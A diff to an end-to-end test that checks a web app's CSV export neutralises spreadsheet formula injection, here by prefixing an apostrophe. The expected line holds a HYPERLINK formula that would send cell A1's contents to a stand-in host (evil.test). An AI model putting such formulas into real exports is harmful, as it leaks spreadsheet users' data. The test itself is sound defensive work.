@@ -1,6 +1,6 @@
 import fs from 'node:fs';
 import { describe, expect, it } from 'vitest';
-import { loginAs, useBrowser } from '../support/e2e-browser.js';
+import { loginAs, useBrowser, savedFile } from '../support/e2e-browser.js';
 import { api, unique } from '../support/e2e-crud.js';
 
 describe('list exports write formulas as text (issue 29)', () => {
@@ -13,11 +13,10 @@ describe('list exports write formulas as text (issue 29)', () => {
     expect(made.status).toBe(201);
     try {
       const page = browser.page();
-      await loginAs(page, 'admin');
-      await page.goto('/handling-charges');
+      await loginAs(page, 'admin', '/handling-charges');
       await page.getByText(name, { exact: true }).waitFor();
       const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
-      const csv = fs.readFileSync((await download.path())!, 'utf8');
+      const csv = fs.readFileSync(await savedFile(download), 'utf8');
       const line = csv.split(/\r?\n/).find((l) => l.includes(marker))!;
       // Quoted by the CSV writer, with its inner quotes doubled; what a spreadsheet reads starts with ', not =.
       expect(line.startsWith(`"'=HYPERLINK(""http://evil.test/?""&A1,""${marker}"")"`), line).toBe(true);
